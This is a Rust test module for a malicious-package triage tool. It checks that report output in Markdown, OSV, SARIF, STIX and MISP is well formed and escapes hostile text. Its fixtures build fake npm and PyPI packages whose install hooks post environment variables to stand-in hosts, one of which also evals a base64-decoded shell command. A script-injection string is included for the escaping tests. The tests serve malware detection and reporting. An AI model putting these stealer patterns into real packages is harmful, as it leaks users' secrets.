//! The reports of packages made up here: what each format's receiver asks for holds for a hundred of them, hostile names and
//! texts among them.

use std::io::Write as _;
use std::sync::Arc;
use std::time::Duration;

use flate2::Compression;
use flate2::write::GzEncoder;
use rstest::rstest;
use serde_json::{Value, json};
use strum::IntoEnumIterator as _;

use super::{Decided, Dossier, Format, Refused, Reporter, draft, iocs, markdown, misp, osv, sarif, stix};
use crate::behavior::Reading;
use crate::case::Case;
use crate::ledger::{IndicatorRole, Label, Labelled, Ledger, MarkedSpan, RoleSet, SpanRole};
use crate::package::{OpenOptions, open_bytes};
use crate::syntax::Doc;
use crate::text::Span;

/// Texts that would act on whoever shows them unescaped.
const HOSTILE: &str = "\u{1B}[2J\u{202E}</code><script>alert(1)</script>`x`|[l](https://evil.example.com)@all";

fn tgz(files: &[(&str, &str)]) -> Vec<u8> {
    let mut tar = tar::Builder::new(GzEncoder::new(Vec::new(), Compression::fast()));
    for (path, text) in files {
        let mut header = tar::Header::new_gnu();
        header.set_size(text.len() as u64);
        header.set_mode(0o644);
        header.set_cksum();
        tar.append_data(&mut header, path, text.as_bytes()).unwrap();
    }
    let mut gz = tar.into_inner().unwrap();
    gz.flush().unwrap();
    gz.finish().unwrap()
}

fn read(name: &str, files: &[(&str, &str)]) -> Case {
    let package = open_bytes(name, tgz(files), &OpenOptions::default()).unwrap();
    Case::read(Arc::new(package), Duration::ZERO, &Reading::default())
}

/// What a ledger holds after these decisions.
fn decided(case: &Case, label: Option<Label>, marks: &[(&str, SpanRole, &str)]) -> Decided {
    Decided::of(&ledger(case, label, marks), case)
}

/// A ledger with a label, and marks at the first place of each text.
fn ledger(case: &Case, label: Option<Label>, marks: &[(&str, SpanRole, &str)]) -> Ledger {
    let clock = || -> jiff::Timestamp { "2026-11-20T18:01:00Z".parse().unwrap() };
    let mut ledger = Ledger::in_memory("ann").unwrap().with_clock(clock);
    for (text, role, note) in marks {
        let files = (0..case.package.files.len()).map(Doc::File);
        let mut all = files.chain((0..case.sequence.layers.len()).map(Doc::Layer));
        let found = all.find_map(|doc| Some((doc, case.source(doc)?.text.find(text)?)));
        let (doc, start) = found.unwrap_or_else(|| panic!("{text} is not there"));
        let span = Span { start, end: start + text.len() };
        ledger.mark(MarkedSpan::new(case, doc, span, *role, note).unwrap()).unwrap();
    }
    if let Some(label) = label {
        ledger.label(Labelled::new(case, label, None, "7")).unwrap();
    }
    ledger
}

fn reporter() -> Reporter {
    Reporter {
        name: "Example Triage Team".to_owned(),
        contact: "triage@example.com".to_owned(),
        inspector: "https://inspect.example.com/".to_owned(),
    }
}

/// A package that sends what it gathers, and runs what it decodes.
fn stealer() -> Case {
    let manifest = r#"{"name":"@acme/demo","version":"1.0.0","scripts":{"postinstall":"node lib/send.js"}}"#;
    let send = "const https = require('https');\nconst os = require('os');\nfunction report(data) {\n  \
                const r = https.request('https://collect.example.net/in', { method: 'POST' });\n  r.write(data);\n  r.end();\n}\n\
                report(JSON.stringify({ env: process.env, host: os.hostname() }));\n\
                eval(Buffer.from('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWNTeW5jKCd3aG9hbWknKQ==', 'base64').toString());\n";
    read("demo-1.0.0.tgz", &[("package/package.json", manifest), ("package/lib/send.js", send)])
}

fn accused(case: &Case) -> Decided {
    let role = SpanRole::Exfil;
    decided(
        case,
        Some(Label::Malicious),
        &[("report(JSON.stringify", role, HOSTILE), ("node lib/send.js", SpanRole::Trigger, "")],
    )
}

#[test]
fn the_story_says_what_runs_what_it_does_and_where_data_goes() {
    let case = stealer();
    let (decided, reporter) = (accused(&case), reporter());
    let text = markdown::report(&Dossier { case: &case, decided: &decided, reporter: &reporter }).unwrap();
    for part in [
        "# Report on `@acme/demo 1.0.0`",
        "| package URL | `pkg:npm/%40acme/demo@1.0.0` |",
        "| decided | malicious, 2026-11-20 18:01 UTC |",
        "`postinstall` runs on installation: `node lib/send.js` at `package/package.json`:1",
        "- Sent to `hxxps://collect[.]example[.]net/in` at `package/lib/send.js`:5: the environment (",
        "- Run at `package/lib/send.js`:9: what the code decodes (text 0, 43 bytes: `from > eval`)",
        "send collected data: send env (X11, T1041) at `package/lib/send.js`",
        "**exfil** at `package/lib/send.js`:8",
        "    8  report(JSON.stringify({ env: process.env, host: os.hostname() }));",
        "| exfil | url | `hxxps://collect[.]example[.]net/in` |",
        "- [x] the lines that do the harm are marked",
        "- [ ] a person has looked at 2 addresses",
    ] {
        assert!(text.contains(part), "{part} is missing in\n{text}");
    }
    assert!(!text.contains("https://collect"), "{text}");
}

#[rstest]
#[case::markdown(Format::Markdown)]
#[case::osv(Format::Osv)]
#[case::npm(Format::Npm)]
#[case::misp(Format::Misp)]
#[case::stix(Format::Stix)]
fn nobody_is_accused_without_a_place(#[case] format: Format) {
    let case = stealer();
    let decided = decided(&case, Some(Label::Malicious), &[]);
    let reporter = reporter();
    let refused = format.write(&Dossier { case: &case, decided: &decided, reporter: &reporter }, false).unwrap_err();
    assert!(matches!(refused, Refused::NothingMarked { .. }), "{refused}");
    assert!(refused.to_string().contains("no line of it is marked"), "{refused}");
}

#[rstest]
#[case(None, "has no label")]
#[case(Some(Label::Benign), "is labelled benign")]
#[case(Some(Label::SuspiciousUnresolved), "takes malicious, research_or_pentest")]
fn a_record_accuses_only_by_a_label(#[case] label: Option<Label>, #[case] why: &str) {
    let case = stealer();
    let decided = decided(&case, label, &[("report(JSON", SpanRole::Exfil, "")]);
    let reporter = reporter();
    let dossier = Dossier { case: &case, decided: &decided, reporter: &reporter };
    for format in [Format::Osv, Format::Npm, Format::Misp, Format::Stix] {
        let refused = format.write(&dossier, false).unwrap_err().to_string();
        assert!(refused.contains(why), "{refused}");
    }
    // What accuses nobody is told all the same.
    assert!(Format::Markdown.write(&dossier, false).is_ok() && Format::Sarif.write(&dossier, false).is_ok());
}

#[test]
fn a_draft_is_for_its_own_registry() {
    let case = stealer();
    let (decided, reporter) = (accused(&case), reporter());
    let refused = draft::pypi(&Dossier { case: &case, decided: &decided, reporter: &reporter }).unwrap_err();
    assert!(refused.to_string().contains("no PyPI package"), "{refused}");
}

#[test]
fn a_role_that_an_analyst_gave_decides() {
    let case = stealer();
    let reporter = reporter();
    let mut ledger = ledger(&case, Some(Label::Malicious), &[("report(JSON.stringify", SpanRole::Exfil, "")]);
    ledger
        .set_role(RoleSet {
            sha256: case.package.sha256.clone(),
            indicator: "url".to_owned(),
            value: "https://collect.example.net/in".to_owned(),
            role: Some(IndicatorRole::Benign),
        })
        .unwrap();
    let decided = Decided::of(&ledger, &case);
    let dossier = Dossier { case: &case, decided: &decided, reporter: &reporter };
    let record = osv::record(&dossier, false).unwrap();
    assert_eq!(record.pointer("/database_specific/iocs/urls"), None, "{record}");
    let all = serde_json::to_value(iocs::Document::new(&dossier)).unwrap();
    let first = all["indicators"].as_array().unwrap().iter().find(|i| i["kind"] == "url").unwrap();
    assert_eq!((&first["given"], &first["attack"], &first["role"]), (&json!("benign"), &json!(false), &json!("exfil")));
}

#[test]
fn files_are_named_in_a_record_only_on_request() {
    let case = stealer();
    let (decided, reporter) = (accused(&case), reporter());
    let dossier = Dossier { case: &case, decided: &decided, reporter: &reporter };
    assert_eq!(osv::record(&dossier, false).unwrap().pointer("/database_specific/iocs/files"), None);
    let record = osv::record(&dossier, true).unwrap();
    let files = record.pointer("/database_specific/iocs/files").unwrap().as_array().unwrap();
    let sources: Vec<&str> = files.iter().map(|file| file["source"].as_str().unwrap()).collect();
    assert!(sources.contains(&"PACKAGE_ARCHIVE") && sources.contains(&"IN_MEMORY"), "{record}");
}

/// Numbers that look random and are the same every time.
struct Lot(u64);

impl Lot {
    fn draw<'a, T>(&mut self, from: &'a [T]) -> &'a T {
        self.0 = self.0.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        &from[usize::try_from(self.0 >> 33).unwrap() % from.len()]
    }
}

/// A made-up package that does something, of one of both ecosystems, with one of many addresses, names and paths.
fn generated(number: u64) -> (Case, Decided) {
    let mut lot = Lot(number);
    let addresses = [
        "https://collect.example.net/in",
        "http://203.0.113.7:8080/x?a=1",
        "http://[2001:db8::7]/a",
        "https://u:p@a.example.net/%zz/\u{202E}<b>`|",
        "https://discord.com/api/webhooks/1/x",
        "https://A_b.example.org/~x{y}",
        "ftp://files.example.net/a b",
        "https://xn--e1afmkfd.example.net/#f",
    ];
    let address = *lot.draw(&addresses);
    let folder = *lot.draw(&["lib", "a b", "x\u{202E}y", "<img src=x>", "=cmd()", "@all", "`code`", "ünï"]);
    let note = *lot.draw(&["", "sends it", HOSTILE, "line\nbreak", "=1+1"]);
    let version = *lot.draw(&["1.0.0", "2.0.0-rc.1+x", "0.0.1"]);
    if *lot.draw(&[true, false]) {
        let name = *lot.draw(&["acme-demo", "@acme/demo", "acme.demo_x"]);
        let path = format!("package/{folder}/send.js");
        let manifest = json!({ "name": name, "version": version, "scripts": { "postinstall": format!("node '{folder}/send.js'") } });
        let code = format!(
            "const https = require('https');\nconst r = https.request({}, {{ method: 'POST' }});\nr.write(JSON.stringify(process.env));\nr.end();\n",
            json!(address)
        );
        let case = read("demo.tgz", &[("package/package.json", &manifest.to_string()), (&path, &code)]);
        let decided = decided(&case, Some(Label::Malicious), &[("r.write(", SpanRole::Exfil, note)]);
        return (case, decided);
    }
    let name = *lot.draw(&["Acme_Demo", "acme.demo", "acme-demo"]);
    let root = format!("{name}-{version}");
    let code = format!(
        "import os\nimport urllib.request\nfrom setuptools import setup\nurllib.request.urlopen({}, data=str(os.environ).encode())\nsetup(name='{name}', version='{version}')\n",
        json!(address)
    );
    let info = format!("Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n");
    let module = format!("{root}/{folder}/__init__.py");
    let files =
        [(format!("{root}/setup.py"), code), (format!("{root}/PKG-INFO"), info), (module, "x = 1\n".to_owned())];
    let files: Vec<(&str, &str)> = files.iter().map(|(path, text)| (path.as_str(), text.as_str())).collect();
    let case = read(&format!("{root}.tar.gz"), &files);
    let label = *lot.draw(&[Label::Malicious, Label::ResearchOrPentest]);
    let decided = decided(&case, Some(label), &[("urllib.request.urlopen(", SpanRole::Payload, note)]);
    (case, decided)
}

/// What collections of records ask for, beyond the schema.
fn check_record(record: &Value, wrong: &mut Vec<String>) {
    let mut must = |holds: bool, what: &str| {
        if !holds {
            wrong.push(format!("{what}: {record}"));
        }
    };
    let keys = |value: &Value| value.as_object().map(|o| o.keys().cloned().collect::<Vec<_>>()).unwrap_or_default();
    let within = |value: &Value, known: &[&str]| keys(value).iter().all(|key| known.contains(&key.as_str()));
    must(
        within(
            record,
            &[
                "schema_version",
                "modified",
                "published",
                "details",
                "affected",
                "references",
                "credits",
                "database_specific",
            ],
        ),
        "only known keys, no id, summary or severity",
    );
    let is_time = |value: &Value| {
        value.as_str().is_some_and(|t| t.ends_with('Z') && t.len() == 20 && t.parse::<jiff::Timestamp>().is_ok())
    };
    must(is_time(&record["modified"]) && is_time(&record["published"]), "times in UTC");
    must(record["details"].as_str().is_some_and(|text| text.len() > 20), "details");
    let affected = record["affected"].as_array().cloned().unwrap_or_default();
    must(affected.len() == 1, "exactly one package");
    let Some(affected) = affected.first() else { return };
    must(within(affected, &["package", "versions", "ranges", "database_specific"]), "keys of what is affected");
    must(within(&affected["database_specific"], &["cwes"]), "keys beside what is affected");
    let package = &affected["package"];
    let (ecosystem, name) = (package["ecosystem"].as_str().unwrap_or(""), package["name"].as_str().unwrap_or(""));
    must(["npm", "PyPI"].contains(&ecosystem), "ecosystem as it is spelled");
    must(!name.is_empty() && !name.chars().any(char::is_control), "a name");
    if ecosystem == "PyPI" {
        let normal =
            name.bytes().all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-') && !name.contains("--");
        must(normal, "a normalised name");
    }
    let purl = package["purl"].as_str().unwrap_or("");
    let begin = if ecosystem == "npm" { "pkg:npm/" } else { "pkg:pypi/" };
    must(purl.starts_with(begin) && !purl[begin.len()..].contains('@'), "a purl of the ecosystem without a version");
    must(purl.ends_with(name.rsplit('/').next().unwrap_or(name)), "a purl of the name");
    must(affected["versions"].is_array() != affected["ranges"].is_array(), "either versions or a range");
    for range in affected["ranges"].as_array().into_iter().flatten() {
        must(range["type"] == if ecosystem == "npm" { "SEMVER" } else { "ECOSYSTEM" }, "the kind of range");
        must(range["events"] == json!([{ "introduced": "0" }]), "introduced 0");
    }
    must(within(&record["database_specific"], &["iocs"]), "keys at the top");
    let iocs = &record["database_specific"]["iocs"];
    must(within(iocs, &["domains", "ips", "urls", "files"]), "keys of indicators");
    let strings = |value: &Value| {
        value
            .as_array()
            .cloned()
            .unwrap_or_default()
            .iter()
            .filter_map(|v| v.as_str().map(str::to_owned))
            .collect::<Vec<_>>()
    };
    for domain in strings(&iocs["domains"]) {
        let signs = domain.bytes().all(|b| b.is_ascii_alphanumeric() || b"_.-".contains(&b));
        let labels = domain.split('.').all(|label| !label.is_empty() && label.len() <= 63);
        must(signs && labels && domain.len() <= 255 && domain.parse::<std::net::IpAddr>().is_err(), &domain);
        must(domain != "discord.com", "no service that everybody uses");
    }
    for ip in strings(&iocs["ips"]) {
        must(ip.parse::<std::net::IpAddr>().is_ok(), &ip);
    }
    for url in strings(&iocs["urls"]) {
        let plain = url.bytes().all(|b| b.is_ascii_graphic() && !b"\"<>\\^`{|}".contains(&b));
        let escapes = url.match_indices('%').all(|(at, _)| {
            url.as_bytes().get(at + 1..at + 3).is_some_and(|digits| digits.iter().all(u8::is_ascii_hexdigit))
        });
        must(plain && escapes && url.contains("://"), &url);
    }
    let credits = record["credits"].as_array().cloned().unwrap_or_default();
    let kinds = ["FINDER", "REPORTER", "ANALYST", "COORDINATOR", "TOOL", "OTHER"];
    must(!credits.is_empty() && credits.iter().all(|c| kinds.iter().any(|kind| c["type"] == *kind)), "credits");
}

/// What SARIF 2.1.0 and its readers ask for.
fn check_sarif(log: &Value, wrong: &mut Vec<String>) {
    let mut must = |holds: bool, what: &str| {
        if !holds {
            wrong.push(format!("{what}: {log}"));
        }
    };
    must(log["version"] == "2.1.0", "version");
    for run in log["runs"].as_array().unwrap() {
        let rules = run["tool"]["driver"]["rules"].as_array().unwrap();
        let artifacts = run["artifacts"].as_array().unwrap();
        for artifact in artifacts {
            must(artifact["hashes"]["sha-256"].as_str().is_some_and(|hash| hash.len() == 64), "hash of a file");
        }
        for result in run["results"].as_array().unwrap() {
            let rule = usize::try_from(result["ruleIndex"].as_u64().unwrap()).unwrap();
            must(rules[rule]["id"] == result["ruleId"], "the rule by its index");
            must(["error", "warning", "note"].iter().any(|level| result["level"] == *level), "a level");
            must((0.0..=100.0).contains(&result["rank"].as_f64().unwrap()), "a rank");
            must(result["suppressions"] == json!([]), "nothing is suppressed");
            let message = result["message"]["text"].as_str().unwrap();
            let safe =
                !message.chars().any(char::is_control) && !message.contains("://") && !message.contains('\u{202E}');
            must(safe && !message.is_empty(), "a harmless message");
            let flows = result.pointer("/codeFlows/0/threadFlows/0/locations").and_then(Value::as_array).cloned();
            let in_flows = flows.unwrap_or_default().into_iter().map(|step| step["location"].clone());
            for location in result["locations"].as_array().unwrap().iter().cloned().chain(in_flows) {
                let place = &location["physicalLocation"];
                let uri = place["artifactLocation"]["uri"].as_str().unwrap();
                let plain = uri.bytes().all(|b| b.is_ascii_alphanumeric() || b"-._~/%".contains(&b));
                must(plain && !uri.starts_with('/') && !uri.split('/').any(|part| part == ".."), "a relative URI");
                if let Some(index) = place["artifactLocation"]["index"].as_u64() {
                    let artifact = &artifacts[usize::try_from(index).unwrap()];
                    must(artifact["location"]["uri"] == uri, "the file by its index");
                }
                if let Some(region) = place.get("region") {
                    let number = |key: &str| region[key].as_u64();
                    let lines = number("startLine").zip(number("endLine"));
                    must(lines.is_none_or(|(start, end)| 1 <= start && start <= end), "lines");
                    must(number("byteOffset").is_some() && number("byteLength").is_some(), "bytes");
                }
            }
        }
    }
}

/// What a bundle's parsers ask for.
fn check_bundle(bundle: &Value, wrong: &mut Vec<String>) {
    let objects = bundle["objects"].as_array().unwrap();
    let ids: Vec<&str> = objects.iter().map(|object| object["id"].as_str().unwrap()).collect();
    let mut must = |holds: bool, what: &str| {
        if !holds {
            wrong.push(format!("{what}: {bundle}"));
        }
    };
    for object in objects {
        let (kind, id) = (object["type"].as_str().unwrap(), object["id"].as_str().unwrap());
        must(id.strip_prefix(kind).is_some_and(|rest| rest.starts_with("--") && rest.len() == 38), "an id of its type");
        must(ids.iter().filter(|other| **other == id).count() == 1, "an id once");
        must(object["spec_version"] == "2.1", "the version of the standard");
        let refs = ["source_ref", "target_ref", "created_by_ref"].iter().filter_map(|key| object[*key].as_str());
        let many = ["object_refs", "object_marking_refs"].iter().filter_map(|key| object[*key].as_array()).flatten();
        for to in refs.chain(many.filter_map(Value::as_str)) {
            must(ids.contains(&to), "a reference to what is there");
        }
        if kind == "indicator" {
            let pattern = object["pattern"].as_str().unwrap();
            let inner = pattern.strip_prefix('[').and_then(|p| p.strip_suffix("']")).unwrap();
            let value = inner.split_once(" = '").unwrap().1;
            must(!value.replace("\\\\", "").replace("\\'", "").contains('\''), "a pattern that is closed once");
        }
    }
    for kind in ["identity", "malware", "software", "indicator", "relationship", "report", "marking-definition"] {
        must(objects.iter().any(|object| object["type"] == kind), kind);
    }
}

/// What MISP asks for: types with a category that takes them, ids once.
fn check_event(event: &Value, wrong: &mut Vec<String>) {
    let event = &event["Event"];
    let object = event["Object"].as_array().and_then(|objects| objects.first());
    let own = event["Attribute"].as_array().unwrap().iter();
    let fields = object.and_then(|object| object["Attribute"].as_array()).into_iter().flatten();
    let mut ids = Vec::new();
    for attribute in own.chain(fields) {
        let (kind, category) = (attribute["type"].as_str().unwrap(), attribute["category"].as_str().unwrap());
        let fits = match kind {
            "url" | "domain" | "ip-dst" => category == "Network activity",
            "email" | "md5" | "sha1" | "sha256" | "sha512" => category == "Payload delivery",
            "regkey" | "mutex" => category == "Artifacts dropped",
            "link" => category == "External analysis",
            "text" | "datetime" | "other" => category == "Other",
            _ => false,
        };
        let id = attribute["uuid"].as_str().unwrap().to_owned();
        if !fits || id.len() != 36 || ids.contains(&id) || attribute["value"].as_str().is_none_or(str::is_empty) {
            wrong.push(format!("{attribute}"));
        }
        ids.push(id);
    }
    if let Some(object) = object {
        let named =
            object["Attribute"].as_array().unwrap().iter().any(|field| field["object_relation"] == "package-name");
        if !named || object["template_version"] != "4" {
            wrong.push(format!("{object}"));
        }
    }
}

/// Writes a report for `tests/schemas.py`, where that asks for it.
fn keep(number: u64, format: Format, text: &str) {
    if let Some(folder) = std::env::var_os("CEREBRO_REPORTS") {
        let folder = std::path::PathBuf::from(folder);
        std::fs::create_dir_all(&folder).unwrap();
        std::fs::write(folder.join(format!("{number}.{}", format.word())), text).unwrap();
    }
}

#[test]
fn a_hundred_packages_are_reported_as_every_receiver_asks() {
    let reporter = reporter();
    let mut wrong = Vec::new();
    let mut with_indicators = 0;
    for number in 0..100 {
        let (case, decided) = generated(number);
        let dossier = Dossier { case: &case, decided: &decided, reporter: &reporter };
        let record = osv::record(&dossier, number % 2 == 0).unwrap();
        with_indicators += usize::from(record.pointer("/database_specific/iocs/urls").is_some());
        check_record(&record, &mut wrong);
        check_sarif(&sarif::log(&sarif::run(&case, &decided)), &mut wrong);
        check_bundle(&stix::bundle(&dossier).unwrap(), &mut wrong);
        check_event(&misp::event(&dossier).unwrap(), &mut wrong);
        check_event(&misp::indicators(&dossier), &mut wrong);
        for fields in [draft::pypi(&dossier), draft::npm(&dossier)].into_iter().flatten() {
            let summary = &fields.last().unwrap().text;
            let most = if fields[0].name == "kind" { draft::PYPI_SUMMARY } else { draft::NPM_DESCRIPTION };
            if !(10..=most).contains(&summary.chars().count()) || summary.contains(['<', '>']) {
                wrong.push(format!("{number}: {fields:?}"));
            }
        }
        for format in Format::iter() {
            let Ok(text) = format.write(&dossier, false) else { continue };
            let acts = |c: char| {
                (c.is_control() && c != '\n') || matches!(c, '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}')
            };
            keep(number, format, &text);
            if text.chars().any(acts) || format.write(&dossier, false).unwrap() != text {
                wrong.push(format!("{number} {}: {text}", format.word()));
            }
        }
    }
    assert!(wrong.is_empty(), "{} are wrong, the first:\n{}", wrong.len(), wrong[0]);
    assert!(with_indicators > 50, "only {with_indicators} records name a URL");
}

#[test]
fn nothing_of_a_package_is_formatted_by_markdown() {
    for number in 0..40 {
        let (case, decided) = generated(number);
        let reporter = Reporter::default();
        let text = markdown::report(&Dossier { case: &case, decided: &decided, reporter: &reporter }).unwrap();
        // Outside of code nothing is left of what the package says.
        let mut fence: Option<&str> = None;
        for line in text.lines() {
            let ticks = &line[..line.len() - line.trim_start_matches('`').len()];
            match fence {
                Some(open) if line == open => fence = None,
                Some(_) => continue,
                None if ticks.len() >= 3 && line.trim_start_matches('`') == "text" => fence = Some(ticks),
                None => {
                    let prose = without_code(line);
                    for sign in ["<", "://", "@all", "alert", "[l]"] {
                        assert!(!prose.contains(sign), "{number}: {sign} in {prose}\nof {line}");
                    }
                }
            }
        }
        assert!(fence.is_none(), "{number}: a block of code is never closed\n{text}");
    }
}

/// A line without its code spans, as CommonMark finds them.
fn without_code(line: &str) -> String {
    let (mut rest, mut prose) = (line, String::new());
    while let Some(at) = rest.find('`') {
        prose.push_str(&rest[..at]);
        let run = rest[at..].len() - rest[at..].trim_start_matches('`').len();
        let inner = &rest[at + run..];
        let mut close = None;
        let mut from = 0;
        while let Some(found) = inner[from..].find('`') {
            let start = from + found;
            let length = inner[start..].len() - inner[start..].trim_start_matches('`').len();
            if length == run {
                close = Some(start + length);
                break;
            }
            from = start + length;
        }
        match close {
            Some(end) => rest = &inner[end..],
            None => {
                prose.push_str(&rest[at..at + run]);
                rest = inner;
            }
        }
    }
    prose.push_str(rest);
    prose
}

#[test]
fn what_is_hidden_is_a_suppressed_result_and_not_a_missing_one() {
    let case = stealer();
    let mut ledger = ledger(&case, None, &[]);
    let step = case.sequence.steps.iter().find(|step| step.feature == crate::behavior::Feature::SendData).unwrap();
    let reason = format!("telemetry of the vendor{HOSTILE}");
    let suppression = crate::ledger::Finding::Step(step).suppression(&case, &reason).unwrap();
    let before = sarif::run(&case, &Decided::of(&ledger, &case));
    ledger.suppress(suppression).unwrap();
    let after = sarif::run(&case, &Decided::of(&ledger, &case));
    let results = |run: &Value| run["results"].as_array().unwrap().clone();
    assert_eq!(results(&before).len(), results(&after).len());
    for result in results(&after) {
        let hidden = result["suppressions"].as_array().unwrap();
        assert_eq!(hidden.len(), usize::from(result["ruleId"] == "behavior/X11"), "{result}");
        for by in hidden {
            assert_eq!((&by["kind"], &by["status"]), (&"external".into(), &"accepted".into()));
            assert_eq!(by["properties"]["author"], "ann");
            let said = by["justification"].as_str().unwrap();
            assert!(said.starts_with("telemetry of the vendor") && !said.contains('\u{1B}'), "{said}");
        }
    }
}

#[test]
fn a_report_says_what_the_label_says_beside_the_verdict() {
    let case = stealer();
    let mut ledger = ledger(&case, None, &[("report(JSON.stringify", SpanRole::Exfil, "")]);
    let mut labelled = Labelled::new(&case, Label::Malicious, None, "7");
    labelled.taxonomy = crate::ledger::Taxonomy::proposed(&case);
    assert!(labelled.taxonomy.objective.contains(&"credential_theft".to_owned()), "{:?}", labelled.taxonomy);
    assert_eq!(labelled.taxonomy.trigger, ["install"]);
    labelled.taxonomy.campaign = HOSTILE.to_owned();
    labelled.taxonomy.confidence = Some(90);
    ledger.label(labelled).unwrap();
    let (decided, reporter) = (Decided::of(&ledger, &case), reporter());
    let dossier = Dossier { case: &case, decided: &decided, reporter: &reporter };
    let text = markdown::report(&dossier).unwrap();
    for part in [
        "## Classified as",
        "- objective: `credential_theft`",
        "- trigger: `install`",
        "- confidence: 90 %",
        "- ATT&CK: ",
    ] {
        assert!(text.contains(part), "{part} is not in\n{text}");
    }
    assert!(!text.contains("\n- campaign: <"), "{text}");
    let run = sarif::run(&case, &decided);
    assert_eq!(run["properties"]["classified"]["confidence"], 90);
}
